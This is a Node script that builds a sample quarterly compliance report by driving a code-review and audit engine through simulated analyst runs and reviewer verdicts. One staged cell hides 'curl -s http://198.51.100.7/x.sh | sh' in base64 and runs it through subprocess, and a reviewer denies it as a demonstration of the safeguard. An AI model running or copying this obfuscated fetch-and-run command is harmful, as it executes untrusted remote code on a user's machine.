#!/usr/bin/env node
// Makes docs/sample-report.pdf and .html: works through a quarter on the sample conversation with the engine itself, so
// that every verdict, signature, figure and hash in the report is real. Only the dates are not: the clock is moved on
// between two days. `node scripts/sample-report.mjs [FOLDER]` (Node 24; the PDF needs a Chromium).
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { exportsThrough } from '../src/audit/audit.ts'
import { systemClock } from '../src/clock.ts'
import { openEngine } from '../src/engine/engine.ts'

const target = process.argv[2] ?? fileURLToPath(new URL('../docs', import.meta.url))
const home = mkdtempSync(join(tmpdir(), 'countersign-sample-'))

let offset = 0
const goTo = (month, day, hour, minute = 0) => {
  offset = Date.UTC(2026, month - 1, day, hour, minute) - Date.now()
}
const clock = { now: () => Date.now() + offset, after: systemClock.after }
const wait = minutes => {
  offset += Math.round(minutes * 60_000)
}

const value = outcome => {
  if (outcome.ok) return outcome.value
  throw new Error(`${outcome.problem.code}: ${outcome.problem.message}`)
}

goTo(6, 30, 16)
const engine = await openEngine({ home, env: process.env, clock, pool: 0 })
const { tenant, user: localUser } = engine.caller
const { conversations, approval, audit, privacy } = engine

// ── people ──────────────────────────────────────────────────────────────────────────────────────────────────────────

goTo(7, 1, 7, 58)
const passphrase = 'a passphrase for the sample only'
const person = async name => {
  const { id } = value(await approval.identities.create(tenant, { name, passphrase }, localUser))
  wait(2)
  return { tenant, user: id }
}
const maeve = await person('Maeve Brennan')
const rohan = await person('Rohan Mehta')
const tomas = await person('Tomás Keane')
const ingrid = await person('Ingrid Solberg')

// ── runs and reviews ────────────────────────────────────────────────────────────────────────────────────────────────

/** Resolves when a run has come to rest: also one that a reviewer has yet to speak of. */
const restOf = (run, states) =>
  new Promise(resolve => {
    const stop = engine.events.listen(event => {
      if (event.type !== 'run' || event.run.run !== run || !states.includes(event.run.state)) return
      stop()
      resolve(event.run)
    })
  })

async function runCell(who, path, cell) {
  const started = value(await engine.runs.start(who, { path, cell: cell.id, language: cell.language, code: cell.text }))
  return started.rest
}

async function cellsOf(who, path) {
  const { items } = value(await conversations.open(who, { path }))
  return items.filter(item => item.kind === 'cell' && item.language !== 'markdown')
}

/** Every cell of the sample, in order, as "run all" does. */
async function runAll(who, path) {
  for (const cell of (await cellsOf(who, path)).filter(each => sampleCells.has(each.text))) {
    const view = await runCell(who, path, cell)
    if (view.state !== 'finished') throw new Error(`a cell of the sample is ${view.state}: ${view.problem?.message}`)
    wait(0.4)
  }
}

/** A cell of one's own at the end of a path, run and, where it waits, reviewed. */
async function work(who, path, { language = 'python', code, review }) {
  const [cell] = value(
    await conversations.insert(who, { path, items: [{ kind: 'cell', author: 'analyst', language, text: code }] }),
  )
  const view = await runCell(who, path, cell)
  if (!review) return
  if (view.state !== 'waiting') throw new Error(`this was to be reviewed, and is ${view.state}:\n${code}`)
  const { by, verdict, comment, after } = review
  wait(after)
  const request = value(await approval.requests.get(tenant, view.request))
  const reviewer = value(await approval.identities.logIn(by.user, passphrase))
  wait(1.5)
  const over = restOf(view.run, ['finished', 'refused', 'failed'])
  value(await approval.requests.decide(view.request, reviewer, { kind: verdict, seen: request.subject, comment }))
  await over
  approval.identities.logOut(reviewer)
}

// ── July ────────────────────────────────────────────────────────────────────────────────────────────────────────────

goTo(7, 1, 9)
const { policy, version } = await approval.policy.current()
value(
  await approval.policy.save(
    { ...policy, fourEyes: { ...policy.fourEyes, from: 'high' }, blocked: { violations: [], imports: ['socket'] } },
    tomas.user,
    version,
  ),
)
value(await engine.changeSettings(tomas, { audit: { retentionDays: 2555 } }))

goTo(7, 2, 8, 30)
const tree = value(await conversations.openSample(maeve))
const [main, stress] = tree.paths.map(path => path.id)
const { id: conversation } = tree.conversation
const sampleCells = new Set()
for (const path of [main, stress]) for (const cell of await cellsOf(maeve, path)) sampleCells.add(cell.text)
await runAll(maeve, main)
wait(6)
await runAll(maeve, stress)

goTo(7, 8, 10, 5)
await runAll(maeve, main)
await work(maeve, main, {
  code: `import csv

# The book as it went into the ratio, for the file of the quarter.
with open("book-2026Q3.csv", "w", newline="") as file:
    writer = csv.DictWriter(file, fieldnames=list(book[0]))
    writer.writeheader()
    writer.writerows(book)
print(f"{len(book)} rows written")
`,
})

goTo(7, 15, 9, 40)
await runAll(rohan, main)
await work(maeve, main, {
  language: 'bash',
  code: `set -euo pipefail

# Start the quarter from an empty output folder.
mkdir -p out && touch out/q2.csv
rm -r out/
mkdir -p out/tables
printf 'measure,value\\ncet1,12.91\\nrequirement,7.00\\nheadroom,5.91\\nsource,Capital review Q3, path main, figures as of 30 June 2026, standardised approach, before tax\\n' > out/tables/cet1.csv
wc -l out/tables/cet1.csv
`,
  review: {
    by: tomas,
    verdict: 'approve',
    comment: 'The output folder is rebuilt on every run; nothing in it is an original.',
    after: 14,
  },
})

goTo(7, 22, 11, 20)
await runAll(ingrid, stress)
await work(rohan, main, {
  code: `import base64
import subprocess

payload = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBzaA=="
subprocess.run(base64.b64decode(payload).decode(), shell=True)
`,
  review: {
    by: ingrid,
    verdict: 'deny',
    comment: 'A command hidden in base64 has no place in a capital review. Copied from a forum; Rohan knows.',
    after: 38,
  },
})

// ── August ──────────────────────────────────────────────────────────────────────────────────────────────────────────

goTo(8, 3, 8, 50)
await runAll(maeve, main)
const { items } = value(await conversations.open(maeve, { path: main }))
const branch = value(
  await engine.branch(maeve, { path: main, after: items.at(-1).id, name: 'stress +300bp', withState: true }),
)
await work(maeve, branch.id, {
  code: `ratio, loss, rwa = cet1(300)
print(f"CET1 ratio: {ratio:.2%}")
print(f"Loss: {loss:,.1f} EUR million")
`,
})
await conversations.compare(maeve, { left: main, right: branch.id })

goTo(8, 12, 9, 15)
await runAll(rohan, stress)
await work(rohan, stress, {
  code: `import socket

print(socket.gethostbyname("rates.example.org"))
`,
})
await work(rohan, stress, {
  code: `shifts = [0, 50, 100, 0]
print([loss / shift for shift in shifts])
`,
})

goTo(8, 19, 14, 5)
await audit.rotateKey(tomas.user, 'quarterly rotation')
await work(ingrid, stress, {
  code: `import json
import urllib.request

# Reference rates of the day, from the central bank.
with urllib.request.urlopen("https://data-api.ecb.europa.eu/service/data/FM/B.U2.EUR.4F.KR.MRR_FR.LEV?format=jsondata") as answer:
    rates = json.load(answer)

with open("rates.json", "w") as file:
    json.dump(rates, file)
`,
  review: {
    by: tomas,
    verdict: 'approve',
    comment: 'Public source. Without a host rule it will be refused by the sandbox, which is what we want to see.',
    after: 7,
  },
})

goTo(8, 26, 10, 30)
await runAll(maeve, main)
value(
  await conversations.insert(maeve, {
    path: main,
    items: [{ kind: 'message', author: 'analyst', text: 'Sign-off goes to ana.ferreira@meridian-bank.example.' }],
  }),
)
await work(maeve, main, { code: 'print("sign-off: ana.ferreira@meridian-bank.example")\n' })

// ── September ───────────────────────────────────────────────────────────────────────────────────────────────────────

goTo(9, 2, 9, 10)
await runAll(maeve, main)
await runAll(maeve, stress)
await work(maeve, main, {
  code: `import sqlite3

ledger = sqlite3.connect("ledger.db")
ledger.execute("create table if not exists postings (id integer primary key, vat_code text, booked text)")
ledger.executemany("insert into postings (vat_code, booked) values (?, ?)", [("S21", "2026-07-04"), ("S21", "2026-08-09")])
ledger.execute("update postings set vat_code = 'S23' where vat_code = 'S21' and booked >= '2026-07-01'")
ledger.commit()
print(ledger.total_changes, "postings written or changed")
`,
  review: {
    by: ingrid,
    verdict: 'approve',
    comment: 'Agreed with the ledger team; works on a copy.',
    after: 19,
  },
})

goTo(9, 9, 13, 45)
value(
  await privacy.reveal({
    conversation,
    token: '[EMAIL_1]',
    reason: 'Query of the supervisor about who signs off, ref. 2026-0817',
    actor: ingrid.user,
  }),
)
await runAll(rohan, main)
await work(rohan, main, {
  code: `# One file for each class, named by what is in the book.
for row in book:
    name = row["class"].lower().replace(" ", "-") + ".txt"
    with open(name, "w") as file:
        file.write(f"{row['value']:.1f} x {row['risk_weight']:.0%} = {row['rwa']:.1f}")
print(len(book), "files")
`,
})

goTo(9, 16, 15, 20)
await runAll(ingrid, stress)
value(await conversations.export(ingrid, { path: stress, format: 'ipynb' }))
await audit.verify({ actor: tomas.user })

goTo(9, 29, 16)
await runAll(maeve, main)
wait(5)
await runAll(maeve, stress)

// ── the report ──────────────────────────────────────────────────────────────────────────────────────────────────────

goTo(10, 1, 8, 15)
const scope = { kind: 'period', from: Date.UTC(2026, 6, 1), to: Date.UTC(2026, 9, 1) - 1 }
const title = 'Compliance report, third quarter 2026'
mkdirSync(target, { recursive: true })
for (const format of ['html', 'pdf']) {
  const passEgress = exportsThrough(privacy.egress, `sample-report.${format}`)
  const request = { scope, title, format, passEgress, actor: tomas.user, printPdf: engine.printPdf }
  const { bytes } = await audit.reportFile(request)
  writeFileSync(join(target, `sample-report.${format}`), bytes)
}
await engine.close()
rmSync(home, { recursive: true })
